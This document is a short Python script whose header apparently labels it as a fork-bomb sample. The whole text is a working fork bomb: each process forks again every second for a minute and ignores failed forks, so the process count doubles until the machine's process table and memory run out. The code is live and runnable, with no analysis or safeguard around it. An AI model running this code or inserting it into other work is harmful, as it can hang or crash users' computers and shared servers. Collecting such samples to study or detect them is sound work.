# class: fork bomb; possible: low medium
import os, time
# each one makes one more every second and none ever ends
t = time.time()
while time.time() - t < 60:
    try: os.fork()
    except OSError: pass
    time.sleep(1)
